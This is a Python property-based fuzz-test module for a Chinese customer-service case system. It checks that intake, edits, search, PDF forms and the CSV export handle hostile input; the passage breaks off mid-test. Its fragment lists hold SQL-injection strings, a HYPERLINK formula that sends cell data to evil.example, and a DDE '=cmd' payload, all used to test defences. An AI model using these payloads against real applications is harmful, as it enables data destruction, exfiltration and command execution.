"""Hostile input at the counter: fuzzing the intake and the free-text steps.

Every payload either lands in the database exactly as the core promises
(free text: `clean_text` drops the control characters below U+0020 except
newline and tab, DEL and lone surrogates, then trims, and refuses what is
then empty when required or longer than the field's limit; phones: digits
only, landlines with their leading 0), or is refused with a plain
`RuleError` whose message is Chinese and names the field. Nothing else may
raise. Afterwards the database must be sound, the search box must cope with
the same text, both paper forms must print it, and the weekly CSV must carry
it with formula-looking cells neutralised.

Payload budget: every example pushes one fuzzed intake through
`register_case`; max_examples is set explicitly on every test, 10,000 in all
(hypothesis replays saved failing examples on top):

    test_single_field_payloads        4370  (one field fuzzed; refusal names it)
    test_registration_payloads        2200  (all fields at once)
    test_edit_payloads                1800  (then edit_case with 1-3 fuzzed fields)
    test_search_copes_with_any_text   1300  (then search with fuzzed text)
    test_workflow_free_text            270  (then ~25 fuzzed free texts, to voided)
    test_forms_print_fuzzed_cases       60  (then review; 2 PDFs each = 120 PDFs)

PDFs are slow (~0.1-0.3 s each), hence their own test with few examples.
(The one slow case found, thousands of short lines, is timed in a benchmark,
not here: timings do not belong in unit tests.)

Stores: hypothesis and function-scoped fixtures do not mix, so each test
builds its own desks (`make_desk(Store.in_memory(), FixedClock(START))`,
see `Desks`) and deliberately reuses one store for 50 examples before
starting the next: a fresh desk per example would cost ~7 ms x 10,000, and
a store full of fuzzed cases is what the end-of-run checks (integrity,
foreign keys, full-text index, events, weekly CSV) want to see. Each
example creates its own case and looks only at that case and at row
counts, so examples cannot disturb each other.
"""

from __future__ import annotations

import datetime as dt
import io
import re
from collections.abc import Callable, Iterable
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any, TypeVar

from hypothesis import HealthCheck, example, given, note, settings
from hypothesis import strategies as st
from pypdf import PdfReader

from showroom_cs import operations as op
from showroom_cs import pdf
from showroom_cs.clock import FixedClock
from showroom_cs.domain import (
    Case,
    ContactMethod,
    ContactPurpose,
    ReviewItem,
    Severity,
    SolutionKind,
    Stage,
)
from showroom_cs.errors import PermissionDenied, RuleError
from showroom_cs.export import COLUMNS, export_week, neutralise, read_week_file, week_label
from showroom_cs.operations.cases import FIELD_LABELS
from showroom_cs.phone import normalize_phone
from showroom_cs.privacy import mask_name, mask_phone
from showroom_cs.search import search_case_ids
from showroom_cs.settings import DEFAULT_LISTS
from showroom_cs.store import Store

from .conftest import START, Desk, draft, make_desk
from .invariants import case_problems

T = TypeVar("T")

SINGLE_FIELD_EXAMPLES = 4370
REGISTRATION_EXAMPLES = 2200
EDIT_EXAMPLES = 1800
SEARCH_EXAMPLES = 1300
WORKFLOW_EXAMPLES = 270
PDF_EXAMPLES = 60


def fuzz_settings(max_examples: int) -> settings:
    return settings(
        max_examples=max_examples,
        deadline=None,  # a 100,000-character payload takes its time
        suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
    )


# ------------------------------------------------------------- the promise


@dataclass(frozen=True)
class Refused:
    """The input must be refused with a RuleError naming `label`."""

    label: str


DROPPED = re.compile("[\x00-\x08\x0b-\x1f\x7f\ud800-\udfff]")


def cleaned(raw: str) -> str:
    """What clean_text promises to store: control characters below U+0020
    (except newline and tab), DEL and lone surrogates dropped, then trimmed."""
    return DROPPED.sub("", raw).strip()


def text_outcome(raw: str, label: str, limit: int, *, required: bool = False) -> str | Refused:
    text = cleaned(raw)
    if (required and not text) or len(text) > limit:
        return Refused(label)
    return text


# The intake's free-text fields: (limit in characters, required), as the
# intake form documents them; labels are the core's own (FIELD_LABELS).
TEXT_FIELDS: dict[str, tuple[int, bool]] = {
    "customer_name": (40, True),
    "description": (5000, True),
    "customer_address": (500, False),
    "demand_note": (500, False),
    "order_no": (100, False),
    "brand_model": (100, False),
    "subject": (100, False),
}
DEFAULT_TEXTS: dict[str, str] = {column: str(getattr(draft(), column)) for column in TEXT_FIELDS}
KEYS = {name: tuple(entry.key for entry in entries) for name, entries in DEFAULT_LISTS.items()}
RECEIVED_DAY = START.date()
SPOT_LABEL = "当场处理经过"
CJK = re.compile("[\u3400-\u4dbf\u4e00-\u9fff]")
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def check_refusal(
    error: RuleError, labels: Iterable[str], echoed: Iterable[str], fields: Iterable[str] = ()
) -> None:
    """A refusal is a RuleError in Chinese naming one of `labels`; with
    `fields` given, it marks (`missing`) none but those.

    The message may quote the refused input; the quoted `echoed` texts are
    taken out first, so fuzzed CJK cannot pass for a Chinese message.
    """
    assert not isinstance(error, PermissionDenied), error
    message = error.message
    own = message
    for raw in sorted(echoed, key=len, reverse=True):
        for variant in {raw, raw.strip()}:
            for cut in (None, 30, 20):
                part = variant[:cut]
                if part:
                    own = own.replace(part, "")
    wanted = list(labels)
    assert CJK.search(own), f"refusal is not in Chinese: {message!r}"
    assert any(label in message for label in wanted), f"{message!r} names none of {wanted}"
    marked = set(fields)
    if marked:
        assert set(error.missing) <= marked, (error.missing, marked)


def outcome_of(call: Callable[[], T]) -> tuple[T | None, RuleError | None]:
    """The result, or the RuleError; any other exception fails the test."""
    try:
        return call(), None
    except RuleError as error:
        return None, error


def case_row(store: Store, case_id: int) -> dict[str, Any]:
    row = store.query_one("SELECT * FROM cases WHERE id = ?", (case_id,))
    assert row is not None
    return dict(row)


def counts(store: Store) -> tuple[int, ...]:
    return tuple(
        int(store.scalar(f"SELECT COUNT(*) FROM {table}"))
        for table in ("cases", "events", "clocks", "contacts", "reviews", "approvals")
    )


def check_phone_shape(stored: str) -> None:
    """Any accepted phone is stored as ASCII digits, a mobile or a landline
    with its leading 0, and normalising it again changes nothing."""
    assert stored.isascii() and stored.isdigit(), stored
    assert (len(stored) == 11 and stored.startswith("1")) or stored.startswith("0"), stored
    assert normalize_phone(stored) == stored


# --------------------------------------------------------------- strategies

# Fragments a clerk (or a paste, or an attacker) may type. Escapes keep the
# source readable: every control, bidi or joining character is spelled out.
NASTY: tuple[str, ...] = (
    "",
    " ",
    "   ",
    "\u3000",
    "\t",
    "\n",
    "\r\n",
    "\n\n\n",
    "\x00",
    "\x01\x02\x1f",
    "\x07\x08\x0b\x0c",
    "\x7f",
    "\x1b[31m红\x1b[0m",
    "\x85",
    "\u2028\u2029",
    "\ufeff",
    "\u200b",
    "\u200d",
    "'; DROP TABLE cases; --",
    '" OR "1"="1',
    "1; DELETE FROM events WHERE 1=1",
    "Robert'); DROP TABLE staff;--",
    "%",
    "_",
    "\\",
    "' OR ''='",
    '=HYPERLINK("http://evil.example/?q="&A1,"点我")',
    "=1+1",
    "+1",
    "-2",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466",  # family (ZWJ)
    "\U0001f44d\U0001f3fd",  # thumbs up, skin tone
    "\U0001f3f3\ufe0f\u200d\U0001f308",  # rainbow flag (ZWJ)
    "\U0001f469\U0001f3ff\u200d\U0001f527",  # mechanic, skin tone (ZWJ)
    "\u2764\ufe0f",
    "\U0001f1e8\U0001f1f3",  # flag CN (regional indicators)
    "\u0645\u0631\u062d\u0628\u0627 \u0628\u0627\u0644\u0639\u0627\u0644\u0645",  # Arabic
    "\u05e9\u05dc\u05d5\u05dd",  # Hebrew
    "\u202eRTL override\u202c",
    "\u200f\u200e",
    "abc \u05e2\u05d1\u05e8\u05d9\u05ea 中文 \u0627\u0644\u0639\u0631\u0628\u064a\u0629",
    "\U00020bb7",  # 𠮷, CJK extension B
    "\U0002a6a5",  # extension B
    "\U0002b740",  # extension D
    "\U00030000",  # extension G
    "龘",
    "〇",
    "\uff11\uff13\uff18 \uff10\uff10\uff11\uff13 \uff18\uff10\uff10\uff10",  # full-width phone
    "\uff10\uff11\uff12\uff13\uff14\uff15\uff16\uff17\uff18\uff19",
    "<b>粗体</b>",
    "&amp;",
    "<br/>",
    "]]>",
    "<para>",
    "&nbsp;",
    "NEAR(a b)",
    '"',
    "*",
    "^",
    "AND OR NOT",
    "e\u0301",
    "\u0301\u0301\u0301\u0301\u0301",
    "Z\u0324\u0354\u0367\u0311a\u0308\u0356\u032dl\u036e\u0312g\u030c",
    "张伟",
    "王芳",
    "\u00dcn\u00efc\u00f6d\u00e9",
    "\u01c5",
    "\u0130",
    "\u00df",
    "\ud800",  # lone surrogates: Python str allows them
    "\udfff",
    "a\ud83d",
    "\udc00\ud800",
    "13800138000",
    "TS-20261123-001",
)
ANY_CHAR = st.characters(exclude_categories=())  # every code point, lone surrogates included
FILLERS: tuple[str, ...] = (
    "好",
    "W",
    "\U00020bb7",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "a b ",
    "\n",
    " ",
    "\x00",
    "=1",
    "中文 mixed ",
    "\u0301",
    "\u202e",
    "\t",
    "\ud800",
)
# Around every limit, and now and then far beyond any.
LENGTHS = (1, 39, 40, 41, 99, 100, 101, 499, 500, 501, 999, 1000, 1001, 4999, 5000, 5001)
HUGE = (20_000, 100_000)


def _repeat(unit: str, length: int) -> str:
    return (unit * (length // len(unit) + 1))[:length]


# Few hypothesis draws per text (each costs ~50 µs, and there are 10,000
# payloads): a random text between two nasty fragments, drawn as one pair;
# now and then a long body, drawn ready-made, inside it.
PAIRS = tuple((a, b) for a in NASTY for b in NASTY[::6])
BODIES = tuple(_repeat(filler, length) for filler in FILLERS for length in LENGTHS + HUGE)


def _between(pair: tuple[str, str], text: str) -> str:
    return pair[0] + text + pair[1]


short_texts = st.builds(_between, st.sampled_from(PAIRS), st.text(ANY_CHAR, max_size=16))


def sized_texts(one_in: int, bodies: tuple[str, ...] = BODIES) -> st.SearchStrategy[str]:
    """Short texts; one in `one_in` is long (around a limit, or now and then
    far beyond any, up to 100,000 characters), wrapped in the short one."""

    @st.composite
    def draw_text(draw: st.DrawFn) -> str:
        short = draw(short_texts)
        if draw(st.integers(1, one_in)) != one_in:
            return short
        half = len(short) // 2
        body: str = draw(st.sampled_from(bodies))
        return short[:half] + body + short[half:]

    return draw_text()


texts = sized_texts(8)
# For the paper forms: long half the time, but no body of thousands of lines
# (their layout time grows with the square of the line count, see
# test_many_line_texts_print_in_linear_time; fuzzing them would blow the budget).
long_biased_texts = sized_texts(2, tuple(body for body in BODIES if "\n" not in body))


def field_texts(default: str) -> st.SearchStrategy[str]:
    """A sensible value half the time, so that most multi-field payloads get stored."""
    return st.one_of(st.just(default), texts)


def list_values(name: str) -> st.SearchStrategy[str]:
    """A key of a settings list, padded with whitespace, or anything at all."""
    keys = st.sampled_from(KEYS[name])
    padding = st.sampled_from(("", " ", "\u3000", "\t", "\n", "\xa0"))
    padded = st.builds(lambda a, key, b: a + key + b, padding, keys, padding)
    return st.one_of(keys, padded, texts)


LIST_VALUES = {name: list_values(name) for name in ("category", "channel", "product_category")}


def list_outcome(name: str, raw: str, label: str, *, optional: bool = False) -> str | Refused:
    key = raw.strip()
    if optional and not key:
        return ""
    return key if key in KEYS[name] else Refused(label)


demand_values = st.lists(
    st.one_of(st.sampled_from(KEYS["demand"]), st.sampled_from(("", " ", "\u3000")), texts),
    max_size=3,
).map(tuple)


def demands_outcome(raw: tuple[str, ...], note: object) -> tuple[str, ...] | Refused:
    """Chosen demands, trimmed, without repeats, from the list. The form marks
    客户诉求 required: at least one demand or a note must be left."""
    demands = tuple(dict.fromkeys(d.strip() for d in raw if d.strip()))
    if any(d not in KEYS["demand"] for d in demands):
        return Refused(FIELD_LABELS["demands"])
    if not demands and (isinstance(note, Refused) or not note):
        return Refused(FIELD_LABELS["demands"])
    return demands


# Phones: (typed, expected). Expected is the stored digits, Refused, or None
# for random text (either outcome; an accepted one must have the stored shape).
PhoneCase = tuple[str, str | Refused | None]
MOBILE_PREFIXES = ("131", "135", "138", "139", "150", "158", "177", "186", "189", "199")
FULLWIDTH = str.maketrans("0123456789", "".join(chr(0xFF10 + i) for i in range(10)))
ARABIC_INDIC = str.maketrans("0123456789", "".join(chr(0x660 + i) for i in range(10)))


def _mobile(prefix: str, rest: str, style: int) -> PhoneCase:
    digits = prefix + rest
    a, b, c = digits[:3], digits[3:7], digits[7:]
    typed = (
        digits,
        f"{a} {b} {c}",
        f"{a}-{b}-{c}",
        f"+86 {digits}",
        f"0086{digits}",
        f"+86-{a}-{b}-{c}",
        digits.translate(FULLWIDTH),
        f"{a} {b} {c}".translate(FULLWIDTH),
        digits.translate(ARABIC_INDIC),
        f"{a}\xa0{b}\xa0{c}",
        f"\u3000 {digits}\t\n",
        f"({a}) {b}-{c}",
    )[style]
    return typed, digits


LANDLINES: tuple[PhoneCase, ...] = (
    ("021-61234567", "02161234567"),
    ("(021) 6123-4567", "02161234567"),
    ("010-62345678", "01062345678"),
    ("0755-26543210", "075526543210"),
    ("020-38765432".translate(FULLWIDTH), "02038765432"),
    ("+86 571 8765 4321", "057187654321"),
)
BAD_PHONES = (
    "",
    " ",
    "\u3000",
    "\x00",
    "12345",
    "1380013800",
    "138001380001",
    "+1 212 555 0100",
    "+44 20 7946 0958",
    "abc",
    '=HYPERLINK("tel:1")',
    "'; DROP TABLE cases; --",
    "\U0001f4de",
    "\ud800",
    "1" * 300,
    "123".translate(FULLWIDTH),
    "138\x000013 8000",
)
PHONE_ALPHABET = "0123456789 -+()\uff10\uff11\uff13\uff18\u3000\xa0\x00#*.ext"
phones: st.SearchStrategy[PhoneCase] = st.one_of(
    st.builds(
        _mobile,
        st.sampled_from(MOBILE_PREFIXES),
        st.text("0123456789", min_size=8, max_size=8),
        st.integers(0, 11),
    ),
    st.sampled_from(LANDLINES),
    st.sampled_from(BAD_PHONES).map(lambda typed: (typed, Refused("联系电话"))),
    st.text(PHONE_ALPHABET, max_size=24).map(lambda typed: (typed, None)),
    texts.map(lambda typed: (typed, None)),
)

# (typed, expected) for dates and severities: a fixed table, not a re-implementation.
BAD = "bad"
DATE_INPUTS: tuple[tuple[object, object], ...] = (
    (None, None),
    ("", None),
    (" \u3000\t", None),
    ("2026-08-15", dt.date(2026, 8, 15)),
    (" 2026-08-15\n", dt.date(2026, 8, 15)),
    ("2026-11-23", dt.date(2026, 11, 23)),
    ("2026-11-24", dt.date(2026, 11, 24)),
    (dt.date(2026, 9, 1), dt.date(2026, 9, 1)),
    (dt.datetime(2026, 10, 1, 9, 30), dt.date(2026, 10, 1)),
    (dt.date(2027, 1, 1), dt.date(2027, 1, 1)),
    ("2026-08-15".translate(FULLWIDTH), BAD),
    ("2026/08/15", BAD),
    ("2026-02-30", BAD),
    ("15.08.2026", BAD),
    ("\x00", BAD),
    ("=DATE(2026,8,15)", BAD),
    ("2026-08-15\ud800", BAD),
    ("'; DROP TABLE cases; --", BAD),
)
SEVERITY_INPUTS: tuple[tuple[object, Severity | None], ...] = (
    (Severity.NORMAL, Severity.NORMAL),
    (Severity.IMPORTANT, Severity.IMPORTANT),
    (Severity.URGENT, Severity.URGENT),
    ("urgent", Severity.URGENT),
    ("normal", Severity.NORMAL),
    ("紧急", None),
    ("", None),
    ("NORMAL", None),
    (" normal", None),
    (None, None),
    (3, None),
)


def date_outcome(entry: tuple[object, object], label: str) -> object:
    return Refused(label) if entry[1] == BAD else entry[1]


def order_dates(
    purchase: object, install: object, *, new_purchase: bool = True
) -> tuple[object, object]:
    """Bought no later than the day received; delivered no earlier than bought."""
    if new_purchase and isinstance(purchase, dt.date) and purchase > RECEIVED_DAY:
        purchase = Refused(FIELD_LABELS["purchase_date"])
    if isinstance(purchase, dt.date) and isinstance(install, dt.date) and install < purchase:
        install = Refused(FIELD_LABELS["install_date"])
    return purchase, install


SPOT_KINDS = tuple(kind for kind in SolutionKind if not kind.needs_approval)
Spot = tuple[SolutionKind, str]


@dataclass(frozen=True)
class Intake:
    """One fuzzed intake form, with what was done when solved at the counter."""

    texts: dict[str, str]
    phone: PhoneCase = ("138 0013 8000", "13800138000")
    category: str = "安装施工"
    channel: str = "到店"
    product_category: str = "衣柜"
    demands: tuple[str, ...] = ("维修",)
    severity: tuple[object, Severity | None] = (Severity.NORMAL, Severity.NORMAL)
    purchase: tuple[object, object] = (None, None)
    install: tuple[object, object] = (None, None)
    needs_visit: bool = False
    on_spot: Spot | None = None

    def draft(self) -> op.CaseDraft:
        values: dict[str, Any] = {
            **self.texts,
            "customer_phone": self.phone[0],
            "category": self.category,
            "channel": self.channel,
            "product_category": self.product_category,
            "demands": self.demands,
            "severity": self.severity[0],
            "purchase_date": self.purchase[0],
            "install_date": self.install[0],
            "needs_visit": self.needs_visit,
        }
        return op.CaseDraft(**values)

    def typed(self) -> list[str]:
        """Every text typed into the form (for taking quotes out of a refusal)."""
        raw = [*self.texts.values(), self.phone[0], self.category, self.channel]
        raw += [self.product_category, *self.demands]
        raw += [str(v) for v in (self.severity[0], self.purchase[0], self.install[0])]
        return raw + ([self.on_spot[1]] if self.on_spot else [])

    def expected(self) -> dict[str, Any]:
        """Column → stored value or Refused; customer_phone None: any stored shape."""
        out: dict[str, Any] = {
            column: text_outcome(self.texts[column], FIELD_LABELS[column], limit, required=req)
            for column, (limit, req) in TEXT_FIELDS.items()
        }
        out["customer_phone"] = self.phone[1]
        out["category"] = list_outcome("category", self.category, FIELD_LABELS["category"])
        out["channel"] = list_outcome("channel", self.channel, FIELD_LABELS["channel"])
        out["product_category"] = list_outcome(
            "product_category",
            self.product_category,
            FIELD_LABELS["product_category"],
            optional=True,
        )
        out["demands"] = demands_outcome(self.demands, out["demand_note"])
        severity = self.severity[1]
        out["severity"] = severity if severity is not None else Refused("严重程度")
        out["purchase_date"], out["install_date"] = order_dates(
            date_outcome(self.purchase, FIELD_LABELS["purchase_date"]),
            date_outcome(self.install, FIELD_LABELS["install_date"]),
        )
        out["needs_visit"] = self.needs_visit
        if self.on_spot is not None:
            out["solution_steps"] = text_outcome(self.on_spot[1], SPOT_LABEL, 5000, required=True)
        return out


PLAIN = Intake(texts=DEFAULT_TEXTS)


def with_texts(**texts: str) -> Intake:
    return replace(PLAIN, texts={**DEFAULT_TEXTS, **texts})


# Built once: a strategy built inside a composite costs its validation on every draw.
MULTI: dict[str, st.SearchStrategy[Any]] = {
    **{column: field_texts(DEFAULT_TEXTS[column]) for column in TEXT_FIELDS},
    "phone": st.one_of(st.just(PLAIN.phone), phones),
    "category": st.one_of(st.just(PLAIN.category), LIST_VALUES["category"]),
    "channel": st.one_of(st.just(PLAIN.channel), LIST_VALUES["channel"]),
    "product_category": st.one_of(st.just(""), LIST_VALUES["product_category"]),
    "demands": st.one_of(st.just(PLAIN.demands), demand_values),
    "severity": st.sampled_from(SEVERITY_INPUTS),
    "purchase": st.sampled_from(DATE_INPUTS),
    "install": st.sampled_from(DATE_INPUTS),
    "needs_visit": st.booleans(),
    "on_spot": st.none() | st.tuples(st.sampled_from(SPOT_KINDS), field_texts("当场调整铰链")),
}


@st.composite
def intakes(draw: st.DrawFn) -> Intake:
    """Every field fuzzed at once (about half of them keep a sensible value)."""
    values = {name: draw(strategy) for name, strategy in MULTI.items()}
    return Intake(texts={column: values.pop(column) for column in TEXT_FIELDS}, **values)


# The field one single-field payload fuzzes: its code (as `missing` marks it) and the intake.
SINGLE_FIELDS = (
    *TEXT_FIELDS,
    "customer_phone",
    "category",
    "channel",
    "product_category",
    "demands",
    "solution_steps",
)


# The demands are fuzzed by the two registration tests; the other tests keep
# them valid, so that they look at their own subject.
OTHER_FIELDS = tuple(field for field in SINGLE_FIELDS if field != "demands")


@st.composite
def single_field_intakes(
    draw: st.DrawFn, fields: tuple[str, ...] = SINGLE_FIELDS
) -> tuple[str, Intake]:
    """The conftest draft with exactly one field fuzzed."""
    field = draw(st.sampled_from(fields))
    if field in TEXT_FIELDS:
        return field, with_texts(**{field: draw(texts)})
    if field == "customer_phone":
        return field, replace(PLAIN, phone=draw(phones))
    if field in ("category", "channel", "product_category"):
        chosen: dict[str, Any] = {field: draw(LIST_VALUES[field])}
        return field, replace(PLAIN, **chosen)
    if field == "demands":
        return field, replace(PLAIN, demands=draw(demand_values))
    return field, replace(PLAIN, on_spot=(draw(st.sampled_from(SPOT_KINDS)), draw(texts)))


# ------------------------------------------------- registering one payload


def check_registration(desk: Desk, intake: Intake, field: str | None = None) -> Case | None:
    """Register `intake`: stored exactly as promised, or refused as promised.

    With `field` (a single-field payload), a refusal must name that field.
    Returns the stored case, or None when refused.
    """
    ctx = desk.as_("王芳")
    expected = intake.expected()
    refused = [v.label for v in expected.values() if isinstance(v, Refused)]
    maybe = ["联系电话"] if expected["customer_phone"] is None else []
    on_spot = op.OnSpotSolution(*intake.on_spot) if intake.on_spot else None
    before = counts(desk.store) if refused or maybe else ()
    result, error = outcome_of(lambda: op.register_case(ctx, intake.draft(), on_spot=on_spot))
    if error is not None:
        assert refused or maybe, f"a valid payload was refused: {error.message!r}"
        marked = () if field is None else (field,)
        check_refusal(error, refused + maybe, intake.typed(), marked)
        assert counts(desk.store) == before, "a refused payload left rows behind"
        return None
    assert not refused, f"stored although {refused} must be refused"
    assert result is not None
    case = desk.case(result.after.id)
    for column, want in expected.items():
        if column == "customer_phone":
            if want is None:
                check_phone_shape(case.customer_phone)
            else:
                assert case.customer_phone == want
        elif column != "solution_steps":
            assert getattr(case, column) == want, column
    if on_spot is not None:
        assert case.stage == Stage.FOLLOW_UP and case.on_spot
        assert case.solution_steps == case.rectification_result == expected["solution_steps"]
    else:
        assert case.stage == Stage.REGISTERED
    assert case_problems(desk.store, case.id) == []
    assert search_case_ids(desk.store, case.case_no) == [case.id]
    search_case_ids(desk.store, f"{case.customer_name} {case.description[:200]}")  # no error
    return case


# ------------------------------------------------------ after every run


def check_store(desk: Desk, folder: Path) -> int:
    """The database is sound, and the weekly CSV carries every case safely.
    Returns how many cells the CSV had to neutralise."""
    store = desk.store
    assert [tuple(r) for r in store.query("PRAGMA integrity_check")] == [("ok",)]
    assert store.query("PRAGMA foreign_key_check") == []
    # The external-content full-text index agrees with the cases table.
    with store.transaction():
        store.execute("INSERT INTO cases_fts(cases_fts, rank) VALUES ('integrity-check', 1)")
    assert store.query("SELECT id FROM cases WHERE id NOT IN (SELECT case_id FROM events)") == []
    ids = [row[0] for row in store.query("SELECT id FROM cases")]
    cases = {case.case_no: case for case in store.cases(ids)}
    index = {column.key: number for number, column in enumerate(COLUMNS)}
    manager = desk.staff["陈静"]  # a store manager may export full personal data
    neutralised = 0
    for full in (True, False):
        target, export = export_week(
            store, manager, week_label(RECEIVED_DAY), folder, full=full, now=START
        )
        assert target.read_bytes() == export.data
        rows = read_week_file(target)
        assert export.rows == len(rows) == len(cases)
        for row in rows:
            case = cases[row[index["case_no"]]]
            for cell in row:
                assert not cell.startswith(FORMULA_STARTS), (case.case_no, cell)
                neutralised += cell.startswith("'") and cell[1:].startswith(FORMULA_STARTS)
            assert row[index["brand_model"]] == neutralise(case.brand_model)
            if full:
                assert row[index["customer_name"]] == neutralise(case.customer_name)
                assert row[index["customer_phone"]] == case.customer_phone
                assert row[index["summary"]] == neutralise(case.description[:200])
            else:
                assert row[index["customer_name"]] == neutralise(mask_name(case.customer_name))
                assert row[index["customer_phone"]] == mask_phone(case.customer_phone)
                assert case.customer_phone not in row[index["summary"]]
    return neutralised


class Desks:
    """The test's store, reused across examples and renewed every `per_desk`
    of them: each registration plans a call in the clerk's calling windows,
    and planning scans the calls already planned, so one store holding
    thousands of same-day cases would make the run quadratic. A store is
    checked (`check_store`) before it is let go."""

    def __init__(self, folder: Path, per_desk: int = 50) -> None:
        self.folder = folder
        self.per_desk = per_desk
        self.used = 0
        self.checked = 0
        self.neutralised = 0  # formula-looking CSV cells seen by check_store
        self.desk = self._fresh()

    @staticmethod
    def _fresh() -> Desk:
        return make_desk(Store.in_memory(), FixedClock(START))

    def next(self) -> Desk:
        if self.used == self.per_desk:
            self.finish()
            self.desk = self._fresh()
            self.used = 0
        self.used += 1
        return self.desk

    def finish(self) -> None:
        self.checked += 1
        self.neutralised += check_store(self.desk, self.folder / str(self.checked))
        self.desk.store.close()


# ------------------------------------------------------------------ tests


def test_single_field_payloads(tmp_path: Path) -> None:
    """One field fuzzed at a time: a refusal must name (and mark) exactly that field."""
    desks = Desks(tmp_path)  # stores shared across examples (see Desks and the module doc)
    payloads = 0

    @fuzz_settings(SINGLE_FIELD_EXAMPLES)
    @given(payload=single_field_intakes())
    @example(payload=("customer_name", with_texts(customer_name="\x00\x1f")))
    @example(payload=("demand_note", with_texts(demand_note="好" * 501)))
    @example(payload=("customer_phone", replace(PLAIN, phone=LANDLINES[4])))
    def run(payload: tuple[str, Intake]) -> None:
        nonlocal payloads
        payloads += 1
        field, intake = payload
        check_registration(desks.next(), intake, field)

    run()
    desks.finish()
    assert payloads >= SINGLE_FIELD_EXAMPLES
    assert desks.neutralised > 0, "no formula-looking text reached the CSV"


def test_registration_payloads(tmp_path: Path) -> None:
    """Every field of the intake fuzzed at once, with dates, severity and counter solutions."""
    desks = Desks(tmp_path)  # stores shared across examples (see Desks and the module doc)
    payloads = 0

    @fuzz_settings(REGISTRATION_EXAMPLES)
    @given(intake=intakes())
    @example(intake=with_texts(customer_name='=HYPERLINK("http://x","点")', brand_model="@SUM(1)"))
    @example(intake=with_texts(brand_model="+1", description="-2 '; DROP TABLE cases; --"))
    @example(intake=replace(with_texts(demand_note="\x00"), demands=()))
    def run(intake: Intake) -> None:
        nonlocal payloads
        payloads += 1
        check_registration(desks.next(), intake)

    run()
    desks.finish()
    assert payloads >= REGISTRATION_EXAMPLES
    assert desks.neutralised > 0, "no formula-looking text reached the CSV"


# ---------------------------------------------------------------- editing

# Columns edit_case must refuse to touch (the refusal names them).
NOT_EDITABLE = ("stage", "case_no", "owner_id", "id", "received_at", "escalation_level")


@st.composite
def edit_changes(draw: st.DrawFn) -> dict[str, Any]:
    """One to three intake fields to correct, now and then a column nobody may edit."""
    names = draw(
        st.lists(
            st.sampled_from((*FIELD_LABELS, "not_editable")), min_size=1, max_size=3, unique=True
        )
    )
    changes: dict[str, Any] = {}
    for name in names:
        if name in TEXT_FIELDS:
            changes[name] = draw(texts)
        elif name == "customer_phone":
            changes[name] = draw(phones)
        elif name in LIST_VALUES:
            changes[name] = draw(LIST_VALUES[name])
        elif name == "demands":
            changes[name] = draw(demand_values)
        elif name == "severity":
            changes[name] = draw(st.sampled_from(SEVERITY_INPUTS))
        elif name in ("purchase_date", "install_date"):
            changes[name] = draw(st.sampled_from(DATE_INPUTS))
        elif name == "needs_visit":
            changes[name] = draw(st.booleans())
        else:
            changes[draw(st.sampled_from(NOT_EDITABLE) | short_texts)] = draw(texts)
    return changes


def expect_edit(before: Case, changes: dict[str, Any], note: str) -> dict[str, Any]:
    """Column → stored value or Refused (customer_phone None: any stored shape);
    "note" → the timeline note."""
    out: dict[str, Any] = {}
    for column, value in changes.items():
        if column in TEXT_FIELDS:
            limit, required = TEXT_FIELDS[column]
            out[column] = text_outcome(value, FIELD_LABELS[column], limit, required=required)
        elif column == "customer_phone":
            out[column] = value[1]
        elif column in LIST_VALUES:
            out[column] = list_outcome(
                column, value, FIELD_LABELS[column], optional=column == "product_category"
            )
        elif column == "severity":
            out[column] = value[1] if value[1] is not None else Refused("严重程度")
        elif column in ("purchase_date", "install_date"):
            out[column] = date_outcome(value, FIELD_LABELS[column])
        elif column == "needs_visit":
            out[column] = value
        elif column != "demands":
            out[column] = Refused(column)  # 「stage」不能在这里修改
    if "demands" in changes:
        raw = changes["demands"]
        demands = tuple(dict.fromkeys(d.strip() for d in raw if d.strip()))
        ok = all(d in KEYS["demand"] for d in demands)
        out["demands"] = demands if ok else Refused(FIELD_LABELS["demands"])
    final_demands = out.get("demands", before.demands)
    final_note = out.get("demand_note", before.demand_note)
    if final_demands == () and final_note == "":
        out["demands"] = Refused(FIELD_LABELS["demands"])  # 客户诉求不能为空
    purchase, install = order_dates(
        out.get("purchase_date", before.purchase_date),
        out.get("install_date", before.install_date),
        new_purchase="purchase_date" in out,
    )
    for column, value in (("purchase_date", purchase), ("install_date", install)):
        if isinstance(value, Refused):
            out[column] = value
    out["note"] = text_outcome(note, "修改说明", 500)
    return out


def edit_echoes(changes: dict[str, Any], note: str) -> list[str]:
    raw = [note, *changes]
    for value in changes.values():
        if isinstance(value, tuple):
            raw += [str(v) for v in value]
        else:
            raw.append(str(value))
    return raw


def edit_value(column: str, value: Any) -> Any:
    """What the form hands to edit_case for a generated change."""
    if column in ("customer_phone", "severity", "purchase_date", "install_date"):
        return value[0]
    return value


def test_edit_payloads(tmp_path: Path) -> None:
    """Correcting a stored case with fuzzed values: stored as promised or refused untouched."""
    desks = Desks(tmp_path)  # stores shared across examples (see Desks and the module doc)
    payloads = 0

    @fuzz_settings(EDIT_EXAMPLES)
    @given(payload=single_field_intakes(OTHER_FIELDS), changes=edit_changes(), note=texts)
    @example(
        payload=("description", PLAIN),
        changes={"demands": ()},
        note="\x00",
    )
    @example(
        payload=("description", PLAIN),
        changes={"brand_model": '=HYPERLINK("x")', "customer_name": "-2"},
        note="'; DROP TABLE cases; --",
    )
    def run(payload: tuple[str, Intake], changes: dict[str, Any], note: str) -> None:
        nonlocal payloads
        payloads += 1
        desk = desks.next()
        field, intake = payload
        stored = check_registration(desk, intake, field)
        before = stored if stored is not None else desk.register()
        expected = expect_edit(before, changes, note)
        refused = [v.label for v in expected.values() if isinstance(v, Refused)]
        maybe = (
            ["联系电话"]
            if "customer_phone" in expected and expected["customer_phone"] is None
            else []
        )
        typed = {column: edit_value(column, value) for column, value in changes.items()}
        row, rows = case_row(desk.store, before.id), counts(desk.store)
        result, error = outcome_of(lambda: op.edit_case(desk.as_("王芳"), before.id, typed, note))
        if error is not None:
            assert refused or maybe, f"a valid edit was refused: {error.message!r}"
            marked = (*changes, "demands")  # an emptied demand note marks the demands
            check_refusal(error, refused + maybe, edit_echoes(changes, note), marked)
            assert case_row(desk.store, before.id) == row, "a refused edit changed the case"
